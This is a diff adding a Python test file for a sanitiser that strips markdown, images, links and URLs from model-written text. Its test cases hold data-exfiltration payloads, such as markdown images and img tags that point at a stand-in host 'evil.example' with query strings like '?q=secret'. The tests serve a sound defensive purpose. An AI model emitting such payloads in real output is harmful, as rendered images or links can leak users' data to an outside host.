@@ -1,0 +1,63 @@
+"""Plain text: nothing that a chat page would load or link is left of what a model wrote."""
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from service.generation.plain import plain
+
+
+@pytest.mark.parametrize(
+    ("written", "expected"),
+    [
+        ("The union **accepted** 6 percent.", "The union accepted 6 percent."),
+        ("- The union accepted.", "The union accepted."),
+        ("1. The union accepted.", "The union accepted."),
+        ("## What `it` said", "What it said"),
+        ("It ended ![x](https://evil.example/?q=secret).", "It ended."),
+        ("It ended ![x][leak].", "It ended."),
+        ("It ended, see [here](https://evil.example/?q=a b).", "It ended, see here."),
+        ("It ended <img src='//evil.example/a'>today.", "It ended today."),
+        ("It ended <img src='//evil.example/a", "It ended"),
+        ("Go to https://evil.example/?q=secret now.", "Go to now."),
+        ("Go to evil.example/leak?q=1 or www.evil.example now.", "Go to or now."),
+        ("Go to //evil.example/leak now.", "Go to now."),
+        ("Write to mailto:a@evil.example now.", "Write to now."),
+        (
+            "Growth is < 5 percent and/or 3.5 at 10:30 (data: none).",
+            "Growth is < 5 percent and/or 3.5 at 10:30 (data: none).",
+        ),
+        ("[leak]: https://evil.example/x", "leak"),
+        ("![](https://evil.example/x)", ""),
+        ("…", ""),
+        ("42.", ""),
+    ],
+)
+def test_what_is_left(written, expected):
+    assert plain(written) == expected
+
+
+PARTS = (
+    "![",
+    "[",
+    "](",
+    ")",
+    "<img src=",
+    ">",
+    "https://evil.example/a",
+    "//evil.example/a",
+    "x ",
+    "]: ",
+    "`",
+    "*",
+    "\n",
+)
+
+
+@given(st.lists(st.sampled_from(PARTS)))
+def test_no_address_survives(parts):
+    left = plain("".join(parts))
+    assert not re.search(r"://|\]\(|!\[|<\w|example/", left)
+    assert "\n" not in left
